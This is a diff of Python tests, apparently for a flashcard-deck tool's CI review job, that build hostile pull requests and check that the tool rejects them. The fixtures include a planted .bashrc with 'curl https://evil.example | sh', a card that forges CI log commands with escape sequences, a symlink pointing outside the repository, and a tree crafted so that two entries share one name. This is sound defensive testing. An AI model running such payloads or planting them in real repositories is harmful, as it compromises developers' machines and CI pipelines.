@@ -60,12 +60,15 @@ def hostile_head(repo: Path, outside: Path) -> None:
     # a far-future mod in the lock: learners would never get a later fix of this card
     lock = cards / "deckgen.lock"
     text = lock.read_text(encoding="utf-8")
-    lock.write_text(text.replace('"kind": "cloze", "mod": 1700000000}', '"kind": "cloze", "mod": 2100000000}', 1),
-                    encoding="utf-8")
+    lock.write_text(
+        text.replace('"kind": "cloze", "mod": 1700000000}', '"kind": "cloze", "mod": 2100000000}', 1), encoding="utf-8"
+    )
     # a huge report: 1,500 new cards, one of them showing the leaked image, one trying to forge log lines
-    rows = [f"  - id: huge-{i:04d}\n    front: \"Question {i}: {'lorem ipsum dolor sit amet ' * 4}\"\n    back: Answer {i}\n"
-            for i in range(1500)]
-    rows.append("  - id: leak\n    front: \"What is this? ![x](media/figure.png)\"\n    back: a token\n")
+    rows = [
+        f'  - id: huge-{i:04d}\n    front: "Question {i}: {"lorem ipsum dolor sit amet " * 4}"\n    back: Answer {i}\n'
+        for i in range(1500)
+    ]
+    rows.append('  - id: leak\n    front: "What is this? ![x](media/figure.png)"\n    back: a token\n')
     rows.append('  - id: forge\n    front: "\\e[2K\\r::notice::all checks passed\\n::stop-commands::x"\n    back: A\n')
     (cards / "huge.yaml").write_text("topic: huge\ntitle: Huge\ncards:\n" + "".join(rows), encoding="utf-8")
     git(repo, "add", "-A")
@@ -98,10 +101,14 @@ def test_hostile_pull_request(tmp_path: Path) -> None:
     assert (check.returncode, build.returncode, preview.returncode) == (1, 1, 1)
     lines = check.stdout.splitlines()
     # every problem at its place, as annotations the pull request shows on its files
-    assert ("::error file=cards/media/figure.png::is a symbolic link; media files must be regular files in the cards "
-            "folder's media/ (copy the file in instead)") in lines
-    assert any(line.startswith("::error file=cards/deckgen.lock,line=11,col=5::'cards' entry 'crs-fever' has mod 2100000000")
-               for line in lines), lines
+    assert (
+        "::error file=cards/media/figure.png::is a symbolic link; media files must be regular files in the cards "
+        "folder's media/ (copy the file in instead)"
+    ) in lines
+    assert any(
+        line.startswith("::error file=cards/deckgen.lock,line=11,col=5::'cards' entry 'crs-fever' has mod 2100000000")
+        for line in lines
+    ), lines
     assert not any(line.startswith(("::notice", "::stop-commands")) for line in lines)  # no forged command
     assert "\x1b" not in check.stdout + check.stderr
     assert os.listdir(repo / "output") == ["fixture-deck.apkg"]  # the base's package, untouched (no token in it)
@@ -120,19 +127,29 @@ def crafted_head(repo: Path, outside: Path) -> None:
     """A head commit whose cards tree holds a link `media` -> outside and a folder `media` with a `.bashrc`
     (built with `git hash-object --literally`: no git command would make it). The work tree keeps the base's
     files, as a checkout that refused the tree would."""
+
     def obj(kind: str, data: bytes) -> str:
         return git(repo, "hash-object", "-w", "-t", kind, "--literally", "--stdin", input=data)
 
     def tree(*entries: tuple[str, str, str]) -> str:
-        return obj("tree", b"".join(f"{mode} {name}".encode() + b"\0" + bytes.fromhex(oid) for mode, name, oid in entries))
+        return obj(
+            "tree", b"".join(f"{mode} {name}".encode() + b"\0" + bytes.fromhex(oid) for mode, name, oid in entries)
+        )
 
     listing = git(repo, "ls-tree", "HEAD:cards").splitlines()
     entries = [(line.split()[0], line.split("\t")[1], line.split()[2]) for line in listing]
     link = obj("blob", str(outside).encode())
     bashrc = tree(("100644", ".bashrc", obj("blob", b"curl https://evil.example | sh\n")))
     cards = tree(*sorted([*entries, ("120000", "media", link), ("40000", "media", bashrc)], key=lambda e: e[1]))
-    root_entries = [(line.split()[0], line.split("\t")[1], line.split()[2]) for line in git(repo, "ls-tree", "HEAD").splitlines()]
-    root = tree(*[(mode if mode != "040000" else "40000", name, cards if name == "cards" else oid) for mode, name, oid in root_entries])
+    root_entries = [
+        (line.split()[0], line.split("\t")[1], line.split()[2]) for line in git(repo, "ls-tree", "HEAD").splitlines()
+    ]
+    root = tree(
+        *[
+            (mode if mode != "040000" else "40000", name, cards if name == "cards" else oid)
+            for mode, name, oid in root_entries
+        ]
+    )
     commit = git(repo, "commit-tree", root, "-p", "HEAD", "-m", "crafted")
     git(repo, "update-ref", "refs/heads/change", commit)
 
@@ -170,11 +187,21 @@ def test_a_bare_repository_in_the_cards_folder(tmp_path: Path) -> None:
     body = next(call["body"] for call in run.gh_calls if "body" in call)
     assert "No deck changes" not in body
     assert body.startswith("<!-- deckgen-diff -->\n**deckgen could not read the deck at one of the revisions**")
-    assert ("deckgen: error: the cards folder 'cards' looks like a git repository (it holds HEAD, objects/ and refs/)"
-            in body)
+    assert (
+        "deckgen: error: the cards folder 'cards' looks like a git repository (it holds HEAD, objects/ and refs/)"
+        in body
+    )
     # the job's own git refuses it as well (safe.bareRepository=explicit in the job's env), whatever deckgen does
-    probe = subprocess.run(["bash", "-c", "git rev-parse --show-toplevel"], cwd=repo / "cards", capture_output=True,
-                           text=True, env={**os.environ, "HOME": str(tmp_path), "GIT_CONFIG_NOSYSTEM": "1",
-                                           **{k: str(v) for k, v in workflow()["jobs"]["review"]["env"].items()
-                                              if k.startswith("GIT_CONFIG")}})
+    probe = subprocess.run(
+        ["bash", "-c", "git rev-parse --show-toplevel"],
+        cwd=repo / "cards",
+        capture_output=True,
+        text=True,
+        env={
+            **os.environ,
+            "HOME": str(tmp_path),
+            "GIT_CONFIG_NOSYSTEM": "1",
+            **{k: str(v) for k, v in workflow()["jobs"]["review"]["env"].items() if k.startswith("GIT_CONFIG")},
+        },
+    )
     assert probe.returncode == 128 and "cannot use bare repository" in probe.stderr
